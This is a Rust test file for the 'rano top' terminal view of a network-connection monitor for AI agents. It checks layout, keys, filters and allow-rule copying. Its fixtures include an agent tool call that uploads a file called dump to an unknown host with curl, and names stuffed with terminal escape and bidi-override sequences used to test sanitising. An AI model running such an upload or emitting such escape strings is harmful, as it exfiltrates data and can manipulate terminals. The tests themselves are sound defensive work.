//! `rano top` without a terminal: what its screen is like, and what the keys do.

use std::path::Path;
use std::time::Duration;

use anyhow::{Result, ensure};
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use rano::internals::event::{Class, EventKind};
use rano::internals::top::draw::text;
use rano::internals::top::feed::read;
use rano::internals::top::keys::{Wish, press};
use rano::internals::top::state::endpoints::Endpoint;
use rano::internals::top::state::event::StoredEvent;
use rano::internals::top::state::{Batch, Focus, Popup, State, View};
use unicode_width::UnicodeWidthStr;

use crate::support::history::{Connection, End, History, START, every};

crate::tests![
    four_sizes_look_as_they_did,
    every_size_is_drawn_and_none_is_overrun,
    hostile_names_keep_their_columns,
    the_tree_folds_and_narrows_what_stands_beside_it,
    a_wrong_filter_is_told_while_it_is_typed,
    only_new_endpoints_are_those_of_no_earlier_session,
    what_is_selected_is_copied_as_a_rule,
    a_selection_stays_while_rows_come,
    ten_thousand_connections_are_shown,
    everything_known_of_a_connection_is_told,
    without_a_terminal_it_says_what_else_there_is,
];

/// A session after another one: an agent with two tool calls, one without, failures, a guess, open connections.
fn history() -> Result<History> {
    let history = History::new()?;
    let claude = Connection { class: Class::LlmApi, call: Some(("claude", None)), ..Connection::default() };
    history.write("first", START - 86_400_000, &every(3, START - 86_400_000, 60_000, &claude), End::Clean)?;
    let git = Connection {
        comm: "git".into(),
        domain: Some("github.com".into()),
        ip: "198.51.100.4",
        class: Class::CodeHost,
        call: Some(("claude", Some("git fetch"))),
        bytes: (3000, 9_000_000),
        ..claude.clone()
    };
    let curl = Connection {
        comm: "curl".into(),
        domain: None,
        ip: "203.0.113.99",
        class: Class::Unknown,
        port: 8443,
        call: Some(("claude", Some("sh -c 'curl -T dump https://203.0.113.99:8443'"))),
        bytes: (48_000_000, 900),
        ..claude.clone()
    };
    let npm = Connection {
        comm: "npm".into(),
        domain: Some("registry.npmjs.org".into()),
        ip: "192.0.2.10",
        class: Class::Registry,
        open_for: Duration::from_secs(75),
        ..git.clone()
    };
    let refused = Connection { fails: true, domain: None, ip: "192.0.2.1", ..curl.clone() };
    let codex = Connection {
        provider: "openai",
        comm: "codex".into(),
        domain: Some("api.openai.com".into()),
        ip: "2001:db8::1",
        stays_open: true,
        call: Some(("codex", None)),
        ..claude.clone()
    };
    let mut all = every(12, START, 5000, &claude);
    all.extend(every(2, START + 10_000, 9000, &git));
    all.extend(every(1, START + 20_000, 0, &curl));
    all.extend(every(1, START + 25_000, 0, &npm));
    all.extend(every(4, START + 30_000, 1000, &refused));
    all.extend(every(2, START + 40_000, 3000, &codex));
    all.sort_by_key(|connection| connection.at);
    history.write("second", START, &all, End::Clean)?;
    Ok(history)
}

fn state_of(path: &Path) -> Result<State> {
    let batch = read(path, None, None).map_err(anyhow::Error::msg)?;
    let mut state = State::default();
    state.apply(batch, START + 3_600_000);
    Ok(state)
}

fn state() -> Result<(History, State)> {
    let history = history()?;
    let state = state_of(&history.path())?;
    Ok((history, state))
}

fn key(state: &mut State, code: KeyCode) -> Option<Wish> {
    press(state, KeyEvent::new(code, KeyModifiers::NONE))
}

fn keys(state: &mut State, typed: &str) -> Option<Wish> {
    typed.chars().filter_map(|character| key(state, KeyCode::Char(character))).last()
}

/// Each view in one size. To take what there is as right after reading it: `RANO_TOP_FRAMES=write`.
fn four_sizes_look_as_they_did() -> Result<()> {
    let (_history, mut state) = state()?;
    for (width, height) in [(40, 10), (80, 24), (120, 30), (200, 50)] {
        let mut frames = String::new();
        for view in ['1', '2', '3', '4'] {
            keys(&mut state, &view.to_string());
            frames += &text(&mut state, width, height);
        }
        let path =
            Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("../tests/fixtures/top/{width}x{height}.txt"));
        if std::env::var_os("RANO_TOP_FRAMES").is_some() {
            std::fs::write(&path, &frames)?;
        }
        let expected = std::fs::read_to_string(&path)?;
        ensure!(frames == expected, "{}:\n{frames}", path.display());
    }
    Ok(())
}

fn every_size_is_drawn_and_none_is_overrun() -> Result<()> {
    let (_history, mut state) = state()?;
    for (width, height) in
        (0..90).step_by(7).flat_map(|width| (0..30).step_by(3).map(move |height| (width, height)))
    {
        for typed in ["1", "\t", "2", "3", "?", "4"] {
            for character in typed.chars() {
                key(&mut state, if character == '\t' { KeyCode::Tab } else { KeyCode::Char(character) });
            }
            let frame = text(&mut state, width, height);
            ensure!(frame.lines().count() <= usize::from(height.max(1)), "{width}×{height}: {frame}");
            let widest = frame.lines().map(UnicodeWidthStr::width).max().unwrap_or(0);
            ensure!(widest <= usize::from(width), "{width}×{height}: {widest} columns: {frame}");
        }
    }
    Ok(())
}

fn hostile_names_keep_their_columns() -> Result<()> {
    let history = History::new()?;
    let evil = Connection {
        comm: "日本語\u{202e}\x1b[2J\n🦀".into(),
        domain: Some("\x1b]0;x\x07evil\u{200b}.example".into()),
        class: Class::Unknown,
        call: Some(("cla\x1b[31mude", Some("sh\r\n\u{9b}31m"))),
        ..Connection::default()
    };
    history.write("evil\x1b[5m", START, &every(3, START, 1000, &evil), End::Clean)?;
    let mut state = state_of(&history.path())?;
    for view in ["1", "2", "3", "4"] {
        keys(&mut state, view);
        let frame = text(&mut state, 120, 30);
        ensure!(
            !frame.chars().any(|it| it != '\n' && (it.is_control() || "\u{202e}\u{200b}".contains(it))),
            "{frame:?}"
        );
        ensure!(frame.contains("\\x1b") && frame.lines().all(|line| line.width() <= 120), "{frame}");
    }
    keys(&mut state, "3");
    key(&mut state, KeyCode::Down);
    key(&mut state, KeyCode::Enter);
    let frame = text(&mut state, 80, 24);
    // Each row of the box ends in its border, in the same column.
    let end = |line: &str| line.rsplit_once('│').map(|(before, _)| before.width());
    let ends: Vec<_> = frame.lines().filter_map(end).collect();
    ensure!(ends.len() > 10 && ends.iter().all(|end| *end == ends[0]), "{frame}");
    Ok(())
}

fn the_tree_folds_and_narrows_what_stands_beside_it() -> Result<()> {
    let (_history, mut state) = state()?;
    let frame = text(&mut state, 120, 30);
    ensure!(frame.contains("▾ claude (1700)") && frame.contains("git fetch (1800)"), "{frame}");
    ensure!(frame.contains("github.com:443") && frame.contains("api.openai.com:443"), "{frame}");
    // To the agent with the tool calls: what it did not talk to goes.
    let claude = state.tree_lines.iter().position(|line| state.tree.label(line.node) == "claude (1700)");
    for _ in 0..=claude.unwrap_or(0) {
        key(&mut state, KeyCode::Down);
    }
    let frame = text(&mut state, 120, 30);
    ensure!(frame.contains("github.com:443") && frame.contains("of claude (1700)"), "{frame}");
    ensure!(!frame.contains("class     api.openai.com:443") && state.endpoints.len() == 5, "{frame}");
    key(&mut state, KeyCode::Left);
    let frame = text(&mut state, 120, 30);
    ensure!(frame.contains("▸ claude (1700)") && !frame.contains("git fetch (1800) "), "{frame}");
    key(&mut state, KeyCode::Right);
    key(&mut state, KeyCode::Esc);
    ensure!(state.tree_cursor.selected.is_none() && state.endpoints.len() == 6, "{:?}", state.endpoints);
    // By provider, the programs of a name are one row.
    keys(&mut state, "g");
    let frame = text(&mut state, 120, 30);
    ensure!(frame.contains("▾ anthropic") && frame.contains("by provider"), "{frame}");
    Ok(())
}

fn a_wrong_filter_is_told_while_it_is_typed() -> Result<()> {
    let (history, mut state) = state()?;
    ensure!(keys(&mut state, "/type:foo").is_none(), "it asked for something");
    let frame = text(&mut state, 120, 30);
    let last = frame.lines().last().unwrap_or_default();
    ensure!(last.starts_with("filter: type:foo") && last.contains("column"), "{last}");
    ensure!(key(&mut state, KeyCode::Enter).is_none() && state.input.is_some(), "a wrong filter was taken");
    for _ in 0.."foo".len() {
        key(&mut state, KeyCode::Backspace);
    }
    keys(&mut state, "unknown");
    let wish = key(&mut state, KeyCode::Enter);
    let Some(Wish::Filter(Some(filter))) = wish else { anyhow::bail!("{wish:?}") };
    ensure!(filter.text() == "type:unknown" && state.input.is_none(), "{filter}");
    // The history is asked, in the one language.
    let batch = read(&history.path(), None, Some(filter)).map_err(anyhow::Error::msg)?;
    state.apply(batch, START);
    keys(&mut state, "2");
    let frame = text(&mut state, 120, 30);
    ensure!(frame.contains("203.0.113.99:8443") && !frame.contains("github.com"), "{frame}");
    ensure!(frame.contains("filter type:unknown"), "{frame}");
    Ok(())
}

fn only_new_endpoints_are_those_of_no_earlier_session() -> Result<()> {
    let (_history, mut state) = state()?;
    keys(&mut state, "2");
    let new = |state: &State| -> Vec<String> {
        let mut names: Vec<_> = state.endpoints.iter().filter(|it| it.is_new).map(Endpoint::label).collect();
        names.sort();
        names
    };
    let all = ["192.0.2.1:8443", "203.0.113.99:8443", "[2001:db8::1]:443"];
    ensure!(!new(&state).iter().any(|name| name.contains("anthropic")), "{:?}", new(&state));
    keys(&mut state, "n");
    ensure!(state.endpoints.len() == 5 && new(&state).len() == 5, "{:?}", new(&state));
    ensure!(all[..2].iter().all(|name| new(&state).iter().any(|it| it == name)), "{:?}", new(&state));
    Ok(())
}

fn what_is_selected_is_copied_as_a_rule() -> Result<()> {
    let (_history, mut state) = state()?;
    keys(&mut state, "2");
    ensure!(key(&mut state, KeyCode::Char('y')).is_none() && state.message.is_some(), "nothing was selected");
    keys(&mut state, "sssS");
    let place = state.endpoints.iter().position(|it| it.label() == "github.com:443").expect("it is there");
    for _ in 0..=place {
        key(&mut state, KeyCode::Down);
    }
    let rule = "[[allow]]\ndomain = \"github.com\"\nports = [443]".to_owned();
    ensure!(
        key(&mut state, KeyCode::Char('y')) == Some(Wish::Copy(rule.clone())),
        "{:?}",
        state.endpoint_cursor
    );
    ensure!(state.popup == Some(Popup::Rule(rule)), "{:?}", state.popup);
    let frame = text(&mut state, 80, 24);
    ensure!(frame.contains("domain = \"github.com\""), "{frame}");
    Ok(())
}

fn a_selection_stays_while_rows_come() -> Result<()> {
    let (_history, mut state) = state()?;
    keys(&mut state, "3");
    for _ in 0..3 {
        key(&mut state, KeyCode::Down);
    }
    let row = |frame: &str| frame.lines().position(|line| line.starts_with('›'));
    let (before, selected) = (row(&text(&mut state, 100, 30)), state.connection_cursor.selected);
    let newest = state.connections.rows().last().expect("a row").event.clone();
    for number in 0..500 {
        let event = StoredEvent {
            id: 10_000 + number,
            at: newest.at + 100 + number,
            kind: Some(EventKind::Connect),
            local: (Some("10.0.0.9".into()), Some(number)),
            ..newest.clone()
        };
        state.apply(Batch { events: vec![event], ..Batch::default() }, START);
    }
    let frame = text(&mut state, 100, 30);
    ensure!(row(&frame) == before && state.connection_cursor.selected == selected, "{frame}");
    ensure!(state.focus == Focus::Main && state.view == View::Connections, "{:?}", state.view);
    Ok(())
}

/// With `RANO_TOP_MEASURE=1` it says how long that takes.
fn ten_thousand_connections_are_shown() -> Result<()> {
    let (_history, mut state) = state()?;
    let newest = state.connections.rows().last().expect("a row").event.clone();
    let many = (0..10_000).map(|number| StoredEvent {
        id: 20_000 + number,
        at: newest.at + 1000 + number,
        kind: Some(EventKind::Connect),
        pid: Some(number % 300),
        local: (Some("10.0.0.8".into()), Some(number)),
        domain: Some(format!("host-{}.example", number % 700).into()),
        sent: Some(number),
        ..newest.clone()
    });
    state.apply(Batch { events: many.collect(), ..Batch::default() }, START);
    for view in ["1", "2", "3", "4"] {
        keys(&mut state, view);
        let begun = std::time::Instant::now();
        state.refresh();
        let lists = begun.elapsed();
        let frame = text(&mut state, 200, 50);
        if std::env::var_os("RANO_TOP_MEASURE").is_some() {
            eprintln!("view {view}: lists {lists:?}, with the frame {:?}", begun.elapsed());
        }
        ensure!(frame.lines().count() == 50, "{frame}");
    }
    ensure!(state.listed.len() == 10_022 && state.endpoints.len() == 706, "{}", state.endpoints.len());
    Ok(())
}

fn everything_known_of_a_connection_is_told() -> Result<()> {
    let (_history, mut state) = state()?;
    keys(&mut state, "3/");
    key(&mut state, KeyCode::Esc);
    let place = state
        .listed
        .iter()
        .position(|index| state.connections.rows()[*index].event.process_name().as_ref() == "npm");
    for _ in 0..=place.expect("it is there") {
        key(&mut state, KeyCode::Down);
    }
    key(&mut state, KeyCode::Enter);
    let frame = text(&mut state, 110, 50);
    for fact in [
        "registry.npmjs.org:443",
        "standing      closed",
        "known by      dns: the process's own DNS look-up",
        "remote        192.0.2.10:443",
        "for           1m15s",
        "received      8.5 MiB (9000000 bytes)",
        "process       npm (",
        "agent         claude (1700)",
        "tool call     git fetch (1800)",
        "owner known   polled",
    ] {
        ensure!(frame.contains(fact), "{fact} is not in\n{frame}");
    }
    Ok(())
}

fn without_a_terminal_it_says_what_else_there_is() -> Result<()> {
    let history = history()?;
    let finished = history.launch(&["top", "--read-only"])?.run()?;
    finished.expect_code(2)?;
    ensure!(
        finished.stderr.contains("needs a terminal") && finished.stderr.contains("rano serve"),
        "{}",
        finished.stderr
    );
    ensure!(finished.stdout.is_empty(), "{}", finished.stdout);
    Ok(())
}
